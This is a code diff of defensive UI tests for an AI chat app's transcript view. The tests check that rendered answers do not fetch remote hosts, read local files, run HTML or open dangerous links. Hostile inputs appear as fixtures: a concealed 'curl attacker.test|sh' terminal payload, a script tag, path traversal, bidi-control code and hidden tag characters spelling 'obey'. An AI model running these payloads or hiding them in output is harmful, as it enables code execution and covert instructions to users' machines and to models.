@@ -14,6 +14,7 @@ from PySide6.QtTest import QTest
 from app.core.conversations.conversation import MessageState
 from app.ui.widgets.link_dialog import examined
 from tests.hostile.heavy import heavy
+from tests.ui.transcript.driver import text_of
 
 PIECE = 7
 
@@ -32,19 +33,7 @@ def show(view, words, text, *, streamed):
     view.settle()
 
 
-def seen(view):
-    """The words of the answer as they stand on the screen."""
-    view.folding.open_all()
-    layout = view.column.layouts[-1]
-    found = []
-    for row in layout.rows:
-        if row.items is None:
-            row.measure(layout.text_width, layout.style, layout.references)
-        found += [p.document.toPlainText() for p in row.items if p.document is not None]
-    return "\n".join(found)
-
-
-def use(view, hand):
+def use(view, driver):
     """What a person may do: look at everything, hover, copy, open again."""
     bar = view.verticalScrollBar()
     for value in (0, bar.maximum() // 2, bar.maximum()):
@@ -53,9 +42,9 @@ def use(view, hand):
     for y in range(0, view.viewport().height(), 12):
         for x in (60, 140, 260):
             QTest.mouseMove(view.viewport(), QPoint(x, y))
-    view.actions_here.select_all()
-    view.actions_here.copy_selection()
-    view.selection.clear()
+    view.state.select_all()
+    view.interaction.copies.copy_selection()
+    view.state.selection.clear()
 
 
 @contextlib.contextmanager
@@ -94,12 +83,16 @@ PICTURES = {
 
 @pytest.mark.parametrize("streamed", [True, False])
 @pytest.mark.parametrize("name", PICTURES)
-def test_no_address_in_an_answer_is_ever_asked(view, words, hand, name, streamed):
+def test_no_address_in_an_answer_is_ever_asked(view, words, driver, name, streamed):
     with counting_callers() as (host, callers):
         show(view, words, PICTURES[name].format(host=host), streamed=streamed)
-        use(view, hand)
+        use(view, driver)
         assert callers == []
-        assert "(not loaded)" in seen(view) or "MY_SECRET_NOTE" in seen(view) or "formula" in name
+        assert (
+            "(not loaded)" in text_of(view, -1)
+            or "MY_SECRET_NOTE" in text_of(view, -1)
+            or "formula" in name
+        )
 
 
 LOCAL = ["file://{0}", "{0}", "../../../../../../../../..{0}", "file://localhost{0}", "<{0}>"]
@@ -113,7 +106,7 @@ LOCAL_HTML = [
 
 @pytest.mark.parametrize("streamed", [True, False])
 @pytest.mark.parametrize("spelling", [*(f"![a]({each})" for each in LOCAL), *LOCAL_HTML])
-def test_no_file_named_in_an_answer_is_ever_read(view, words, hand, tmp_path, spelling, streamed):
+def test_no_file_named_in_an_answer_is_ever_read(view, words, driver, tmp_path, spelling, streamed):
     pipe = tmp_path / "x.png"
     os.mkfifo(pipe)
     read = threading.Event()
@@ -128,7 +121,7 @@ def test_no_file_named_in_an_answer_is_ever_read(view, words, hand, tmp_path, sp
     watcher = threading.Thread(target=watch)
     watcher.start()
     show(view, words, spelling.format(pipe), streamed=streamed)
-    use(view, hand)
+    use(view, driver)
     over.set()
     watcher.join()
     assert not read.is_set()
@@ -138,9 +131,9 @@ def test_no_file_named_in_an_answer_is_ever_read(view, words, hand, tmp_path, sp
 def test_html_is_text(view, words):
     text = '<b onclick="x()">bold</b> <script>alert(1)</script> <table><tr><td>cell'
     show(view, words, text, streamed=True)
-    assert '<b onclick="x()">' in seen(view)
-    assert "<script>alert(1)</script>" in seen(view)
-    assert "<td>cell" in seen(view)
+    assert '<b onclick="x()">' in text_of(view, -1)
+    assert "<script>alert(1)</script>" in text_of(view, -1)
+    assert "<td>cell" in text_of(view, -1)
 
 
 DANGEROUS = [
@@ -169,7 +162,7 @@ DANGEROUS = [
 
 
 @pytest.mark.parametrize("address", DANGEROUS)
-def test_a_dangerous_link_opens_nothing(view, words, hand, theme, monkeypatch, address):
+def test_a_dangerous_link_opens_nothing(view, words, driver, theme, monkeypatch, address):
     opened = []
     monkeypatch.setattr(QDesktopServices, "openUrl", opened.append)
     asked = []
@@ -192,38 +185,40 @@ def test_a_dangerous_link_opens_nothing(view, words, hand, theme, monkeypatch, a
         ("https://example.org/a?b=c", "example.org"),
     ],
 )
-def test_the_host_that_is_shown_is_the_one_that_is_opened(view, words, hand, address, host):
+def test_the_host_that_is_shown_is_the_one_that_is_opened(view, words, driver, address, host):
     asked = []
     view.link_opened.connect(asked.append)
     show(view, words, f"[https://github.com/login]({address})", streamed=False)
     QTest.mouseClick(
         view.viewport(),
         Qt.MouseButton.LeftButton,
-        pos=hand.text("a", "github") + QPoint(4, 4),
+        pos=driver.text("a", "github") + QPoint(4, 4),
     )
     (link,) = map(examined, asked)
     assert (link.refusal, link.host) == ("", host)
 
 
-def copied_code(view, hand):
-    QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=hand.region("a", "code.copy"))
+def copied_code(view, driver):
+    QTest.mouseClick(
+        view.viewport(), Qt.MouseButton.LeftButton, pos=driver.region("a", "code.copy")
+    )
     return QGuiApplication.clipboard().text()
 
 
-def test_directions_in_code_are_seen_and_not_copied(view, words, hand):
+def test_directions_in_code_are_seen_and_not_copied(view, words, driver):
     code = 'if (level != "user\u202e \u2066// admin only\u2069 \u2066") { grant(); }'
     show(view, words, f"```js\n{code}\n```", streamed=True)
     for number in ("202E", "2066", "2069"):
-        assert f"U+{number}" in seen(view)
-    text = copied_code(view, hand)
+        assert f"U+{number}" in text_of(view, -1)
+    text = copied_code(view, driver)
     assert text == 'if (level != "user // admin only ") { grant(); }'
 
 
-def test_code_that_steers_a_terminal_is_copied_without_its_controls(view, words, hand):
+def test_code_that_steers_a_terminal_is_copied_without_its_controls(view, words, driver):
     code = "echo ok\x1b[8m; curl attacker.test|sh\x1b[0m\x1b]0;title\x07\x9b6n\r"
     show(view, words, f"```sh\n{code}\n```", streamed=True)
-    assert "\x1b" not in seen(view)
-    text = copied_code(view, hand)
+    assert "\x1b" not in text_of(view, -1)
+    text = copied_code(view, driver)
     assert not [c for c in text if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) < 0xA0]
     assert not text.endswith("\n")
 
@@ -232,20 +227,20 @@ def test_tag_characters_are_counted_and_not_copied_and_flags_stay(view, words):
     scotland = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
     hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
     show(view, words, f"Summarise {scotland} this.{hidden}\u2062", streamed=True)
-    view.actions_here.copy_message(1)
+    view.interaction.copies.copy_message(1)
     assert QGuiApplication.clipboard().text() == f"Summarise {scotland} this."
-    assert hidden not in seen(view)
+    assert hidden not in text_of(view, -1)
 
 
 HEAVY = heavy(0.05)
 
 
 @pytest.mark.parametrize("name", HEAVY)
-def test_heavy_answers_end_as_they_are_shown_whole(view, words, hand, name):
+def test_heavy_answers_end_as_they_are_shown_whole(view, words, driver, name):
     show(view, words, HEAVY[name], streamed=True)
-    streamed = seen(view)
+    streamed = text_of(view, -1)
     view.set_branch([], {})
     show(view, words, HEAVY[name], streamed=False)
-    assert seen(view) == streamed
-    use(view, hand)
-    assert view.column.total < 40_000_000
+    assert text_of(view, -1) == streamed
+    use(view, driver)
+    assert view.state.column.total < 40_000_000
